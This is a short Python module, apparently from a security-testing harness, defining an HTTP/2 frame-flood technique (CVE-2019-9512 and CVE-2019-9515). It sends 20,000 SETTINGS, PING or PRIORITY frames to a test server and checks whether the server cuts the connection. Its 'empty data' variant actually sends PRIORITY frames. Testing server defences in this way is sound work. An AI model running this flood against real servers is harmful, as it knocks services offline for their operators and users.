"""Some frames must be answered, each."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send settings, pings and window updates by the ten thousand.",
    claim="E3",
    defences=("parser strictness: HTTP/2",),
    stopped_by=("http2_flood", "flood", "http2_"),
    variants={one: one for one in ("settings", "pings", "empty data")},
    source="CVE-2019-9512, CVE-2019-9515",
    seconds=30.0,
)


def attack(case: Case, what: Any) -> None:
    frames = {
        "settings": inside.h2_frame(inside.SETTINGS),
        "pings": inside.h2_frame(inside.PING, bytes(8)),
        "empty data": inside.h2_frame(inside.PRIORITY, bytes(5), stream=1),
    }[what]
    case.tls(case.ground.packages, inside.PREFACE + frames * 20_000, alpn=["h2"], until=lambda got: b"\x07\0\0\0\0\0" in got)
